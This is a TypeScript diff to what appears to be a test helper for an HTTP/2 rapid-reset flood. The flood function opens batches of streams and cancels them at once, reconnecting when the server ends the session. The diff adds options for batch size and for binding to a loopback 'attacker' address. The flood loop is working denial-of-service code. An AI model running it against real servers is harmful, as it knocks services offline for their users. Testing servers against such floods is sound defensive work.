@@ -65,17 +65,32 @@ export interface FloodResult {
   sessions: number;
 }
 
+/** An h2c session from a given local address (Node's typings of http2.connect lack `localAddress`). */
+export function connectFrom(baseUrl: string, localAddress?: string): http2.ClientHttp2Session {
+  if (!localAddress) return http2.connect(baseUrl);
+  const { hostname, port } = new URL(baseUrl);
+  return http2.connect(baseUrl, { createConnection: () => net.connect({ host: hostname, port: Number(port), localAddress }) });
+}
+
+export interface FloodOptions {
+  /** Streams opened and cancelled per turn of the event loop (default 50). */
+  batch?: number;
+  /** The attacker's own address, e.g. 127.0.0.2 (any 127.x.y.z is this host on Linux). */
+  localAddress?: string;
+}
+
 /**
  * An HTTP/2 rapid-reset flood for `durationMs`: on each session, `batch` streams are opened with
  * `headers` and cancelled (RST_STREAM CANCEL) at once, again and again; when the server ends the
- * session a new one is opened.
+ * session (or refuses the connection) a new one is opened.
  */
-export async function rapidResetFlood(baseUrl: string, headers: http2.OutgoingHttpHeaders, durationMs: number, batch = 50): Promise<FloodResult> {
+export async function rapidResetFlood(baseUrl: string, headers: http2.OutgoingHttpHeaders, durationMs: number,
+  { batch = 50, localAddress }: FloodOptions = {}): Promise<FloodResult> {
   const result: FloodResult = { streams: 0, goaways: [], sessions: 0 };
   const until = Date.now() + durationMs;
   while (Date.now() < until) {
     result.sessions++;
-    const session = http2.connect(baseUrl);
+    const session = connectFrom(baseUrl, localAddress);
     session.on("error", () => {});
     session.once("goaway", (code) => result.goaways.push(code));
     await new Promise<void>((resolve) => {
